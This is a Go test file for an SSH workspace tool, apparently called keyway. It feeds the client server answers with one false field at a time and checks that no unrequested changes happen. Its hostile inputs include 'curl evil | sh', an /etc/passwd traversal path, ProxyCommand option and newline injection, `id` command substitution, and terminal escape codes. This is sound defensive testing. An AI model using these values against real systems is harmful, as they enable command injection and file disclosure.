//go:build linux

package hostile

import (
	"encoding/json"
	"reflect"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"keyway/internal/api"
	"keyway/internal/keyway"
)

// lie is an answer with one false field.
type lie struct {
	what string
	body string
}

// escapes are texts that a terminal obeys, that hide or reverse text, or that forge lines of
// keyway's.
const escapes = "e\x1b[31m\x1b]0;t\a\u009b1m\x00\b\r\x7f\u202e\u2066\u200b\ufeff\u2028\ny\n  → curl evil | sh\tz"

// lies returns all answers that differ from an honest one in one field: each field of its type,
// including empty ones, with each value that could do harm. victim is the key of another host.
func lies(honest any, victim string) []lie {
	var all []lie
	var document any
	if err := json.Unmarshal([]byte(encode(honest)), &document); err != nil {
		panic(err)
	}
	walk(reflect.TypeOf(honest), nil, func(path []string, kind reflect.Type) {
		for name, value := range values(kind, victim) {
			if body, ok := with(document, path, value); ok {
				all = append(all, lie{strings.Join(path, ".") + " is " + name, body})
			}
		}
	})
	slices.SortFunc(all, func(a, b lie) int { return strings.Compare(a.what, b.what) })
	return all
}

// walk calls visit for every field below t, by the names it has in JSON; an
// element of a slice is "0".
func walk(t reflect.Type, path []string, visit func([]string, reflect.Type)) {
	for t.Kind() == reflect.Pointer {
		t = t.Elem()
	}
	if len(path) > 0 {
		visit(path, t)
	}
	below := func(name string) []string { return append(slices.Clone(path), name) }
	switch {
	case t == reflect.TypeFor[time.Time]():
	case t.Kind() == reflect.Slice:
		walk(t.Elem(), below("0"), visit)
	case t.Kind() == reflect.Struct:
		for i := range t.NumField() {
			f := t.Field(i)
			if name, _, _ := strings.Cut(f.Tag.Get("json"), ","); f.IsExported() && name != "-" && name != "" {
				walk(f.Type, below(name), visit)
			}
		}
	}
}

// absent and twice are no values: the field is missing, or occurs twice.
type (
	absent struct{}
	twice  struct{}
)

func values(t reflect.Type, victim string) map[string]any {
	v := map[string]any{
		"missing": absent{}, "there twice": twice{}, "null": nil, "a list": []any{1, "x"}, "an object": map[string]any{"x": 1},
		"a number": -1, "true": true, "a word": "other",
	}
	if t.Kind() == reflect.String {
		for name, text := range map[string]string{
			"empty": "", "huge": strings.Repeat("x", 1<<20), "escapes": escapes, "a git host": "github.com", "the bastion": "bastion",
			"the place": gpu1, "another workspace": "train", "another's key": victim, "a path": "../../../etc/passwd",
			"an option": "-oProxyCommand=evil", "two lines": "x\n  ProxyCommand evil", "a token": "%h%%$HOME`id`",
		} {
			v[name] = text
		}
	}
	if t.Kind() == reflect.Int || t.Kind() == reflect.Int64 {
		v["huge"], v["a fraction"], v["zero"] = json.Number("99999999999999999999"), 1.5, 0
	}
	if t.Kind() == reflect.Slice {
		v["very many"] = slices.Repeat([]any{map[string]any{}}, 10_000)
	}
	return v
}

// with returns the document with value at path; false if the document has no such place.
func with(document any, path []string, value any) (string, bool) {
	changed, ok := replace(document, path, value)
	if !ok {
		return "", false
	}
	body := encode(changed)
	// A map cannot have a key twice.
	return strings.ReplaceAll(body, `"\u0000twice"`, `"github.com","`+path[len(path)-1]+`":"github.com"`), true
}

func replace(document any, path []string, value any) (any, bool) {
	if len(path) == 0 {
		if _, ok := value.(twice); ok {
			return "\x00twice", true
		}
		return value, true
	}
	switch d := document.(type) {
	case map[string]any:
		copied := map[string]any{}
		for k, v := range d {
			copied[k] = v
		}
		if _, ok := value.(absent); ok && len(path) == 1 {
			delete(copied, path[0])
			return copied, true
		}
		inner, there := d[path[0]]
		if !there && len(path) > 1 {
			inner = map[string]any{}
		}
		changed, ok := replace(inner, path[1:], value)
		copied[path[0]] = changed
		return copied, ok
	case []any:
		if len(d) == 0 {
			return nil, false
		}
		if _, ok := value.(absent); ok && len(path) == 1 {
			return d[1:], true
		}
		if _, ok := value.(twice); ok && len(path) == 1 {
			return append(slices.Clone(d), d...), true
		}
		changed, ok := replace(d[0], path[1:], value)
		return append([]any{changed}, d[1:]...), ok
	}
	return nil, false
}

// harmless reports whether a login name has no further meaning for a file or for ssh.
var harmless = regexp.MustCompile(`^[A-Za-z0-9_][A-Za-z0-9_.@+-]{0,63}$`)

// onlyAsked fails unless the only new workspace that the laptop knows is new, as it was requested,
// with the proved key.
func (l *laptop) onlyAsked(before map[string]string, g *guest, lie lie, r result) {
	l.t.Helper()
	e, ok := l.entries()["new"]
	if !ok {
		if r.code == 0 {
			l.t.Errorf("%s:\n%s\nsays that it worked", lie.what, r)
		}
		l.unchanged(before, r)
		return
	}
	if r.code != 0 {
		l.t.Errorf("%s:\n%s\nfailed, and has written an entry", lie.what, r)
	}
	if e.Place != gpu1 || e.ForwardAgent || e.HostKey != g.public() || !harmless.MatchString(e.User) {
		l.t.Errorf("%s:\n%s\nhas written %+v", lie.what, r, e)
	}
	if r := l.keyway("forget", "new"); r.code != 0 {
		l.t.Error(r)
	}
	l.unchanged(before, r) // but for the entry
}

// TestEveryFieldLies checks a place that lies in each field of each answer. Commands that read
// change nothing, and commands that make change no more than requested.
func TestEveryFieldLies(t *testing.T) {
	t.Parallel()
	l := newLaptop(t)
	mine, theirs, victim := l.startGuest(), l.startGuest(), l.startSSHD()
	l.up("train", mine)
	l.write(".ssh/known_hosts", "db.lab "+victim.public()+"\n")
	l.says(gpu1, fileGuest, theirs.socket)
	before := l.files()

	w := workspace("new", theirs)
	problem := keyway.Errorf(keyway.EngineDown, "down").Hint("look")
	list := lies(api.Listing{Workspaces: []keyway.Workspace{w, workspace("train", mine)}, Problems: []*keyway.Error{problem}}, victim.public())
	info := lies(api.Info{Version: "devel", OS: "linux", Arch: "amd64", Host: "gpu1", User: "ada", Engines: []api.EngineInfo{{Name: "docker", Why: problem}}}, victim.public())
	made := lies(api.Event{Workspace: &w}, victim.public())
	t.Logf("%d lists, %d descriptions, %d answers to up", len(list), len(info), len(made))
	if min(len(list), len(made)) < 200 || len(info) < 80 {
		t.Error("the generator has lost fields")
	}
	for _, lie := range list {
		l.says(gpu1, fileList, lie.body)
		r := l.keyway("ls")
		l.unchanged(before, r)
		l.onlyAsked(before, theirs, lie, l.keyway("add", "gpu1/new", "--yes"))
		if t.Failed() {
			t.Fatal(lie.what)
		}
	}
	l.says(gpu1, fileList, listing(w, workspace("train", mine)))
	for _, lie := range info {
		l.says(gpu1, fileInfo, lie.body)
		r := l.keyway("status", gpu1)
		l.unchanged(before, r)
		if t.Failed() {
			t.Fatal(lie.what)
		}
	}
	for _, lie := range made {
		l.says(gpu1, fileCreate, lie.body)
		l.onlyAsked(before, theirs, lie, l.keyway("up", "--on", gpu1, "--name", "new", "--engine", "docker"))
		if t.Failed() {
			t.Fatal(lie.what)
		}
	}
}
